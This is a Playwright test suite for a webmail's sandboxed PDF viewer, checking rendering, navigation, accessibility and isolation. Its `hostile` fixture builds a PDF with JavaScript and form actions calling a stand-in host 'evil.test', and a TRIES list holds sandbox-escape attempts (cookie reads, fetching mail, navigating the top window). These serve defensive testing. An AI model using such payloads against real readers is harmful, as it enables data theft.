"""A PDF is looked at beside its letter, in Chromium: drawn, read, closed; a hostile one reaches nothing."""

# ruff: noqa: F811  # fixtures of other files come by their names

import base64
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from playwright.sync_api import expect

from conftest import IN_CHROMIUM
from mailboxes.demo_invoice import invoice
from mailboxes.models import Account, Content, Mailbox, Message
from mailboxes.storage import remove_content
from webmail.tests.test_browser import (  # noqa: F401  # the fixtures of a browser
    AXE,
    PHONE,
    Visit,
    refused,
    visit,
)

Post = Callable[..., list[Message]]
pytestmark = [*IN_CHROMIUM, pytest.mark.django_db(transaction=True)]
# As in static/webmail/pdf_frame.js.
DRAWN_MAX = 8
# How many pixels of a page are dark; of a canvas on which nothing was drawn, all are transparent.
INK = """one => {
    const octets = one.getContext('2d').getImageData(0, 0, one.width, one.height).data;
    let dark = 0;
    for (let at = 0; at < octets.length; at += 4) if (octets[at] < 128 && octets[at + 3] > 128) dark += 1;
    return dark;
}"""


def pdf_of(
    *texts: str, catalog: bytes = b"", page: bytes = b"", trailer: bytes = b"", more: bytes = b""
) -> bytes:
    """A PDF with a page for each text; the others are put into its dictionaries and behind its objects."""
    kids = b" ".join(b"%d 0 R" % (10 + 2 * number) for number in range(len(texts)))
    objects = [
        b"1 0 obj <</Type /Catalog /Pages 2 0 R %s>> endobj" % catalog,
        b"2 0 obj <</Type /Pages /Kids [%s] /Count %d>> endobj" % (kids, len(texts)),
        b"3 0 obj <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>> endobj",
    ]
    for number, text in enumerate(texts):
        drawing = b"BT /F 24 Tf 40 100 Td (%s) Tj ET" % text.encode()
        objects += [
            b"%d 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents %d 0 R "
            b"/Resources <</Font <</F 3 0 R>>>> %s>> endobj" % (10 + 2 * number, 11 + 2 * number, page),
            b"%d 0 obj <</Length %d>> stream\n%s\nendstream endobj"
            % (11 + 2 * number, len(drawing), drawing),
        ]
    return b"%PDF-1.7\n" + b"\n".join([*objects, more, b"trailer <</Root 1 0 R %s>>" % trailer]) + b"\n"


def letter_with(octets: bytes, encoded: bool = True) -> bytes:
    head = (
        b"From: Shop <shop@shop.test>\r\nSubject: Your bill\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nSee the bill.\r\n--b\r\n"
        b"Content-Type: application/pdf; name=bill.pdf\r\n"
        b"Content-Disposition: attachment; filename=bill.pdf\r\n"
    )
    if not encoded:
        return head + b"\r\n" + octets + b"\r\n--b--\r\n"
    lines = base64.encodebytes(octets).replace(b"\n", b"\r\n")
    return head + b"Content-Transfer-Encoding: base64\r\n\r\n" + lines + b"--b--\r\n"


def looked_at(page: Any, message: Message) -> Any:
    """The letter is opened, and its PDF is looked at; the frame."""
    page.goto(f"/mail/inbox/{message.pk}/")
    page.click(".part:has-text('bill.pdf') summary")
    return page.frame_locator("iframe[data-pdf]")


def drawn(frame: Any, number: int = 1) -> Any:
    """A page of it, when it is drawn."""
    found = frame.locator(f".pdf-page[data-page='{number}'][data-drawn]")
    expect(found).to_be_visible()
    return found


PRESS_ESCAPE = (
    "document.activeElement.dispatchEvent(new KeyboardEvent('keydown', {key: 'Escape', bubbles: true}))"
)
BY_ITSELF = {"button": "document.querySelector('#shut').click()", "Escape": PRESS_ESCAPE}


def shut(page: Any, frame: Any, by: str) -> None:
    """Closes it from within, by its own button or the Escape of its own keyboard.

    Not by the browser's mouse and keyboard: these wait until the frame has heard of it, and Chromium
    sometimes leaves that without an answer when the frame is gone by then. So the frame is told beforehand,
    and begins at a word of the page around it, which stays.
    """
    frame.locator("#shut").click(trial=True)  # nothing lies over it
    frame.locator("html").evaluate(
        f"() => {{ addEventListener('message', () => {BY_ITSELF[by]}, {{once: true}}) }}"
    )
    page.locator("iframe[data-pdf]").evaluate("frame => frame.contentWindow.postMessage('now', '*')")


@contextmanager
def replaced(page: Any) -> Iterator[None]:
    """What is done within closes the PDF; another frame takes its place, in which nothing runs."""
    old = page.locator("iframe[data-pdf]").element_handle()
    yield
    expect(page.locator("iframe[data-pdf]")).to_be_hidden()
    page.wait_for_function("one => !one.isConnected", arg=old)


def test_a_pdf_is_drawn_beside_its_letter_and_its_text_can_be_read(
    visit: Visit, ann: Account, post: Post
) -> None:
    [message] = post(ann, text=letter_with(pdf_of("A bill of 12 euro", "Thank you")))
    page = visit()
    frame = looked_at(page, message)
    assert drawn(frame).locator("canvas").evaluate(INK) > 500
    expect(drawn(frame).locator(".textLayer")).to_have_text("A bill of 12 euro")
    expect(frame.get_by_label("Page 1 of 2")).to_contain_text("A bill of 12 euro")
    expect(frame.locator("#count")).to_have_text("2")
    assert frame.locator("html").evaluate("self.origin") == "null"
    # Nothing else moved: the letter is where it was, and so is its reader.
    expect(page.locator("iframe[data-pdf]")).to_have_count(1)
    assert page.url.endswith(f"/mail/inbox/{message.pk}/")


def test_what_a_pdf_does_not_bring_with_it_is_handed_in(visit: Visit, ann: Account, post: Post) -> None:
    """Fonts, character maps, and the decoder of a fax: the frame has no network to fetch them by."""
    drawing = b"q 250 0 0 40 20 20 cm /I Do Q BT /J 24 Tf 40 100 Td <93fa967b> Tj ET"
    # Eight rows of 16 pixels that are like the row before, which is white before the first; then the end.
    fax = b"\xff\x00\x10\x01"
    octets = b"""%%PDF-1.7
1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R
/Resources <</Font <</J 5 0 R>> /XObject <</I 7 0 R>>>>>> endobj
4 0 obj <</Length %d>> stream
%s
endstream endobj
5 0 obj <</Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3-90ms-RKSJ-H /Encoding /90ms-RKSJ-H
/DescendantFonts [6 0 R]>> endobj
6 0 obj <</Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3
/CIDSystemInfo <</Registry (Adobe) /Ordering (Japan1) /Supplement 2>> /FontDescriptor 8 0 R>> endobj
7 0 obj <</Type /XObject /Subtype /Image /Width 16 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1
/Decode [1 0] /Filter /CCITTFaxDecode /DecodeParms <</K -1 /Columns 16 /Rows 8>> /Length %d>> stream
%s
endstream endobj
8 0 obj <</Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 6 /FontBBox [0 0 1000 1000] /ItalicAngle 0
/Ascent 800 /Descent -200 /CapHeight 700 /StemV 80>> endobj
trailer <</Root 1 0 R>>
""" % (len(drawing), drawing, len(fax), fax)
    [message] = post(ann, text=letter_with(octets))
    page = visit()
    with (
        page.expect_request("**/pdfjs/cmaps/90ms-RKSJ-H.bcmap"),
        page.expect_request("**/pdfjs/cmaps/Adobe-Japan1-UCS2.bcmap"),
        page.expect_request("**/pdfjs/wasm/jbig2.wasm"),
    ):
        box = drawn(looked_at(page, message))
    expect(box.locator(".textLayer")).to_have_text("\u65e5\u672c")
    # The image fills a sixth of the page with black.
    assert box.locator("canvas").evaluate(f"one => ({INK})(one) / (one.width * one.height)") > 0.14


def test_pages_are_drawn_when_they_are_reached_and_never_all_at_once(
    visit: Visit, ann: Account, post: Post
) -> None:
    [message] = post(ann, text=letter_with(pdf_of(*(f"This is leaf {number}" for number in range(1, 31)))))
    frame = looked_at(visit(), message)
    drawn(frame)
    expect(frame.locator(".pdf-page")).to_have_count(30)
    assert frame.locator(".pdf-page canvas").count() < DRAWN_MAX
    expect(frame.locator("#back")).to_be_disabled()
    frame.locator("#on").click()
    expect(frame.locator("#number")).to_have_value("2")
    frame.locator("#number").fill("17")
    frame.locator("#number").press("Enter")
    expect(drawn(frame, 17)).to_contain_text("This is leaf 17")
    frame.locator("#back").click()
    expect(frame.locator("#number")).to_have_value("16")
    for number in (30, 1, 15, 8, 24):
        frame.locator("#number").fill(str(number))
        frame.locator("#number").press("Enter")
        expect(drawn(frame, number)).to_contain_text(f"This is leaf {number}")
        assert frame.locator(".pdf-page canvas").count() <= DRAWN_MAX
    frame.locator("#number").fill("99")
    frame.locator("#number").press("Enter")
    expect(frame.locator("#number")).to_have_value("30")
    expect(frame.locator("#on")).to_be_disabled()


def test_a_page_is_made_larger_and_as_wide_as_the_window_again(
    visit: Visit, ann: Account, post: Post
) -> None:
    [message] = post(ann, text=letter_with(pdf_of("A bill of 12 euro")))
    frame = looked_at(visit(), message)
    width = drawn(frame).evaluate("one => one.offsetWidth")
    pixels = frame.locator(".pdf-page canvas").get_attribute("width")
    frame.locator("#larger").click()
    expect(frame.locator("#zoom")).to_have_text("125%")
    assert drawn(frame).evaluate("one => one.offsetWidth") > width
    # Not only stretched: drawn anew, with more pixels.
    expect(frame.locator(f".pdf-page canvas:not([width='{pixels}'])")).to_be_visible()
    frame.locator("#fit").click()
    expect(frame.locator("#zoom")).to_have_text("100%")
    assert drawn(frame).evaluate("one => one.offsetWidth") == width


def test_the_keyboard_suffices(visit: Visit, ann: Account, post: Post) -> None:
    [message] = post(ann, text=letter_with(pdf_of("First leaf", "Second leaf", "Third leaf")))
    page = visit()
    page.goto(f"/mail/inbox/{message.pk}/")
    summary = page.locator(".part summary")
    summary.press("Enter")
    frame = page.frame_locator("iframe[data-pdf]")
    drawn(frame)
    page.keyboard.press("Tab")
    expect(frame.locator("#on")).to_be_focused()
    page.keyboard.press("Enter")
    expect(frame.locator("#number")).to_have_value("2")
    frame.locator("#pages").focus()
    page.keyboard.press("ArrowRight")
    expect(frame.locator("#number")).to_have_value("3")
    page.keyboard.press("+")
    expect(frame.locator("#zoom")).to_have_text("125%")
    page.keyboard.press("0")
    expect(frame.locator("#zoom")).to_have_text("100%")
    with replaced(page):
        shut(page, frame, by="Escape")
    expect(summary).to_be_focused()
    expect(page.locator(".part details[open]")).to_have_count(0)
    expect(page.locator("iframe[data-pdf]")).to_be_hidden()


def test_what_is_closed_is_gone_and_can_be_opened_again(visit: Visit, ann: Account, post: Post) -> None:
    [message] = post(ann, text=letter_with(pdf_of("First leaf")))
    page = visit()
    page.goto(f"/mail/inbox/{message.pk}/")
    frame = page.frame_locator("iframe[data-pdf]")
    summary = page.locator(".part summary")
    ways: list[Callable[[], None]] = [
        lambda: shut(page, frame, by="button"),
        lambda: shut(page, frame, by="Escape"),
        lambda: summary.press("Enter"),
        lambda: summary.press("Escape"),
    ]
    for close in ways:
        summary.press("Enter")
        assert drawn(frame).locator("canvas").evaluate(INK) > 100
        # What the old frame drew costs nothing any more.
        with replaced(page):
            close()
        expect(summary).to_be_focused()


def test_what_is_closed_before_it_has_begun_asks_for_nothing(visit: Visit, ann: Account, post: Post) -> None:
    [message] = post(ann, text=letter_with(pdf_of("First leaf")))
    page = visit()
    page.goto(f"/mail/inbox/{message.pk}/")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url.rpartition("/part/")[2]))
    summary = page.locator(".part summary")
    with page.expect_request("**/mail/pdf/"):
        page.route("**/mail/pdf/", lambda route: None, times=1)  # which is not answered
        summary.press("Enter")
    with replaced(page):
        summary.press("Escape")
    assert "2/" not in asked
    summary.press("Enter")
    drawn(page.frame_locator("iframe[data-pdf]"))
    assert asked.count("2/") == 1


LOCKED = b"/Encrypt <</Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <%s> /U <%s>>> /ID [<00> <00>]" % (
    b"5a" * 32,
    b"a5" * 32,
)


def test_what_cannot_be_shown_says_so(visit: Visit, ann: Account, post: Post) -> None:
    page = visit()
    for octets, said in [
        (b"%PDF-1.4 and nothing else", "This PDF cannot be shown"),
        (b"no PDF at all", "This PDF cannot be shown"),
        (pdf_of(), "This PDF cannot be shown"),
        (pdf_of("A bill", trailer=LOCKED), "This PDF is locked with a password"),
    ]:
        [message] = post(ann, text=letter_with(octets))
        frame = looked_at(page, message)
        expect(frame.get_by_role("heading")).to_have_text(said)
        expect(frame.locator("#bar")).to_be_hidden()
    page.locator(".part summary").press("Escape")
    expect(page.locator("iframe[data-pdf]")).to_be_hidden()


def test_one_that_is_too_large_is_not_loaded(visit: Visit, ann: Account, post: Post) -> None:
    Mailbox.objects.update(quota_bytes=100_000_000)
    filler = b"% " + b"x" * 900 + b"\r\n"
    octets = pdf_of("A bill").replace(b"\n", b"\r\n") + filler * (33 * 1024 * 1024 // len(filler))
    [message] = post(ann, text=letter_with(octets, encoded=False))
    frame = looked_at(visit(), message)
    expect(frame.get_by_role("heading")).to_have_text("This PDF is too large to be shown here")


def test_one_that_is_gone_says_so(visit: Visit, ann: Account, post: Post) -> None:
    [message] = post(ann, text=letter_with(pdf_of("A bill")))
    page = visit()
    page.goto(f"/mail/inbox/{message.pk}/")
    remove_content(Content.objects.get().pk)
    refused(visit, 404)
    page.click(".part summary")
    frame = page.frame_locator("iframe[data-pdf]")
    expect(frame.get_by_role("heading")).to_have_text("This PDF could not be fetched")


def hostile(ours: str) -> bytes:
    """Whatever in a PDF can run or load something: when it is opened, when a page is, when one clicks."""
    script = rb"app.alert\(1\); this.submitForm\('https://evil.test/js'\); fetch\('https://evil.test/js'\);"
    runs = b"<</S /JavaScript /JS (%s)>>" % script
    leads = b"<</S /URI /URI (https://evil.test/uri)>>"
    catalog = (
        b"/OpenAction %s /AA <</WC %s /DP %s>> /Names <</JavaScript <</Names [(a) %s]>>>> "
        b"/AcroForm <</Fields [5 0 R] /XFA (<xdp/>)>>" % (runs, runs, runs, runs)
    )
    page = b"/AA <</O %s /C %s>> /Annots [4 0 R 5 0 R 6 0 R]" % (leads, runs)
    more = (
        b"4 0 obj <</Type /Annot /Subtype /Link /Rect [0 0 300 200] /A %s>> endobj\n"
        b"5 0 obj <</Type /Annot /Subtype /Widget /FT /Tx /T (t) /V (v) /Rect [10 10 90 30] "
        b"/AA <</F %s /K %s>> /A <</S /SubmitForm /F (%s)>>>> endobj\n"
        b"6 0 obj <</Type /Annot /Subtype /Link /Rect [0 0 300 200] /A <</S /GoToR /F (%s)>>>> endobj\n"
        % (leads, runs, runs, b"https://evil.test/form", f"{ours}/mail/acts/".encode())
    )
    return pdf_of("A bill of 12 euro", catalog=catalog, page=page, more=more)


def test_nothing_in_a_hostile_pdf_runs_or_asks_for_anything(
    visit: Visit, ann: Account, post: Post, live_server: Any
) -> None:
    """`visit` fails the test when the browser asks anybody but us, or anything is said on its console."""
    [message] = post(ann, text=letter_with(hostile(live_server.url)))
    page = visit()
    asked: list[str] = []
    page.goto(f"/mail/inbox/{message.pk}/")
    page.on(
        "request", lambda request: asked.append(request.url.removeprefix(live_server.url).partition("?")[0])
    )
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    page.context.on("page", lambda opened: asked.append(f"window {opened.url}"))
    page.click(".part summary")
    frame = page.frame_locator("iframe[data-pdf]")
    box = drawn(frame)
    expect(box.locator(".textLayer")).to_have_text("A bill of 12 euro")
    box.click()
    assert frame.locator("a, input:not(#number), form, iframe, object, embed").count() == 0
    # Behind all of it: the page is closed, and opened once more.
    with replaced(page):
        page.locator(".part summary").press("Escape")
    page.click(".part summary")
    drawn(frame)
    strange = [
        url
        for url in asked
        if not url.startswith(("/static/", "blob:null/"))
        and url not in {"/mail/pdf/", f"/mail/inbox/{message.pk}/part/2/", "/mail/version/"}
    ]
    assert strange == []


# What a script would try that somebody made run in the frame, by a fault of the library. HOST is there and
# would answer: it is our own server by another name, which is another host for a browser.
TRIES = {
    "our cookie": "document.cookie",
    "what is stored": "localStorage.length",
    "the page around": "parent.document.title",
    "our mail": "fetch('/mail/inbox/').then(answer => answer.status)",
    "a host": "fetch('HOST/static/restante.svg', {mode: 'no-cors'})",
    "a picture": "loaded(new Image(), 'HOST/static/restante.svg')",
    "our picture": "loaded(new Image(), '/static/restante.svg')",
    "a script": "loaded(document.createElement('script'), 'HOST/static/webmail/pdf_frame.js')",
    "another window": "window.open('HOST/static/restante.svg').closed",
    "the whole window": "top.location.assign('HOST/static/restante.svg') ?? parent.location.href",
}
LOADED = """const loaded = (element, url) => new Promise((done, failed) => {
    Object.assign(element, { onload: done, onerror: failed, src: url });
    document.head.append(element);
});"""


def test_who_runs_a_script_in_the_frame_reaches_nothing(
    visit: Visit, ann: Account, post: Post, live_server: Any
) -> None:
    [message] = post(ann, text=letter_with(pdf_of("A bill")))
    page = visit()
    frame = looked_at(page, message)
    drawn(frame)
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    host = live_server.url.replace("localhost", "127.0.0.1")
    assert host != live_server.url
    reached = {}
    for what, script in TRIES.items():
        tried = f"await ({script.replace('HOST', host)}); return 'reached';"
        reached[what] = frame.locator("html").evaluate(
            f"async () => {{ {LOADED} try {{ {tried} }} catch {{ return 'refused'; }} }}"
        )
    assert reached == dict.fromkeys(TRIES, "refused")
    # Behind all of it: the frame is opened anew, and asks for what it needs.
    with replaced(page):
        shut(page, frame, by="button")
    page.click(".part summary")
    drawn(frame)
    assert [url for url in answered if url.startswith(host)] == []
    assert len(page.context.pages) == 1
    assert page.url.endswith(f"/mail/inbox/{message.pk}/")
    # The browser says on its console what it refused, and names requests that it did not make.
    assert visit.said != []  # type: ignore[attr-defined]
    visit.said.clear()  # type: ignore[attr-defined]


def test_the_frame_is_handed_files_of_the_library_and_nothing_else(
    visit: Visit, ann: Account, post: Post
) -> None:
    [message] = post(ann, text=letter_with(pdf_of("A bill")))
    page = visit()
    frame = looked_at(page, message)
    drawn(frame)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    # The page around listens to a frame that draws, not to itself nor to anybody who says as much.
    page.evaluate("() => postMessage('pdf: ready', '*', [new MessageChannel().port2])")
    heard = frame.locator("html").evaluate(
        """() => new Promise((done) => {
            const { port1, port2 } = new MessageChannel();
            const heard = [];
            port1.onmessage = ({ data }) => {
                heard.push(Object.keys(data).sort().join(" ") + (data.name ? ": " + data.name : ""));
                if (data.octets && !data.name) {
                    const others = ["../../webmail/webmail.js", "/mail/inbox/", "wasm/../LICENSE", 7, null];
                    for (const name of [...others, "cmaps/H.bcmap"]) port1.postMessage(name);
                } else done(heard);
            };
            parent.postMessage("pdf: other", "*", [new MessageChannel().port2]);
            parent.postMessage("pdf: ready", "*", [port2]);
        })"""
    )
    assert heard == ["library octets worker", "name octets: cmaps/H.bcmap"]
    page.evaluate("0")  # what the page has asked for until now is told before this is answered
    assert [url.rpartition("/part/")[2] for url in asked if "/part/" in url] == ["2/"]
    assert [url for url in asked if "webmail.js" in url or "LICENSE" in url or url.endswith("/inbox/")] == []


def test_without_scripts_a_pdf_is_a_link(visit: Visit, ann: Account, post: Post) -> None:
    [message] = post(ann, text=letter_with(pdf_of("A bill")))
    page = visit(java_script_enabled=False)
    page.goto(f"/mail/inbox/{message.pk}/")
    look = page.locator(".part a:has-text('Look')")
    expect(look).to_be_visible()
    assert look.get_attribute("href") == f"/mail/inbox/{message.pk}/part/2/look/"
    expect(page.locator(".part details")).to_be_hidden()


@pytest.mark.parametrize("colours", ["light", "dark"])
@pytest.mark.parametrize("size", ["wide", "phone"])
def test_axe_finds_nothing_where_a_pdf_is_looked_at(
    visit: Visit, ann: Account, post: Post, colours: str, size: str
) -> None:
    good, broken = (post(ann, text=letter_with(octets))[0] for octets in (invoice(), b"no PDF"))
    page = visit(bypass_csp=True, color_scheme=colours, **(PHONE if size == "phone" else {}))
    found = {}
    for message in (good, broken):
        frame = looked_at(page, message)
        expect(frame.locator("html[data-state]")).to_be_visible()
        if message is good:
            expect(drawn(frame)).to_contain_text("209,80 €")
        # Without its own look at style sheets, which a page without an origin may use but not read.
        rules = "{preload: false, runOnly: ['wcag2a', 'wcag2aa', 'wcag21aa', 'wcag22aa']}"
        frame.locator("html").evaluate(f"() => {{ {AXE} }}")
        results = frame.locator("html").evaluate(f"() => axe.run(document, {rules})")
        found[message.pk] = [f"{one['id']} {one['nodes'][0]['target']}" for one in results["violations"]]
        room = page.locator("iframe[data-pdf]").evaluate("one => one.clientWidth")
        assert frame.locator("html").evaluate("one => one.scrollWidth") <= room
    assert found == {good.pk: [], broken.pk: []}
